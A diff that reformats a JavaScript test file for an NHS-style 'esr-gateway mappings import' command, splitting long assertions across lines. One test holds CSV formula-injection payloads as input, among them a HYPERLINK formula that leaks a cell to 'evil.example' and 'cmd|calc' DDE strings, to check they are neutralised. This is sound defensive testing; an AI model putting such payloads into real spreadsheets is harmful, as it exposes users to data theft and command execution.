@@ -55,8 +55,18 @@ describe('esr-gateway mappings import', () => {
     expect(res.code).toBe(1);
     expect(res.stdout).toMatch(/│ +5 │ +4 │ +0 │ +1 │/);
     expect(res.stdout).toContain('Created 4 (2 need attention: 1 NO_ROLE, 1 RECORD_INACTIVE).');
-    expect(res.stdout).toMatch(new RegExp(`^Line 4: leaver\\.user@trust\\.nhs\\.uk -> VPD ${VPD} employee number ${numberOf('leaver')} saved as RECORD_INACTIVE: `, 'm'));
-    expect(res.stdout).toMatch(new RegExp(`^Line 5: norole\\.user@trust\\.nhs\\.uk -> VPD ${VPD} employee number ${numberOf('withoutRole')} saved as NO_ROLE: `, 'm'));
+    expect(res.stdout).toMatch(
+      new RegExp(
+        `^Line 4: leaver\\.user@trust\\.nhs\\.uk -> VPD ${VPD} employee number ${numberOf('leaver')} saved as RECORD_INACTIVE: `,
+        'm',
+      ),
+    );
+    expect(res.stdout).toMatch(
+      new RegExp(
+        `^Line 5: norole\\.user@trust\\.nhs\\.uk -> VPD ${VPD} employee number ${numberOf('withoutRole')} saved as NO_ROLE: `,
+        'm',
+      ),
+    );
     expect(res.stdout).not.toMatch(/^Line [236]:/m);
     expect(res.stdout).toContain(`All of them are in ${join(dir, 'warnings.attention.csv')}`);
 
@@ -77,7 +87,10 @@ describe('esr-gateway mappings import', () => {
   it('should write formula payloads to FILE.rejected.csv as text a spreadsheet does not run, each with its file line', async () => {
     const file = join(dir, 'formulas.csv');
     const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '=1+2', '+cmd|calc', '@SUM(1+1)*cmd|calc', '-2+3'];
-    const lines = ['portalUserId,vpd,employeeNumber', ...payloads.map((p) => `"${p.replace(/"/g, '""')}",${VPD},${numberOf('established')}`)];
+    const lines = [
+      'portalUserId,vpd,employeeNumber',
+      ...payloads.map((p) => `"${p.replace(/"/g, '""')}",${VPD},${numberOf('established')}`),
+    ];
     lines.push(`ok.user@trust.nhs.uk,${VPD},"=1+2"`);
     await writeFile(file, `${lines.join('\r\n')}\r\n`);
 
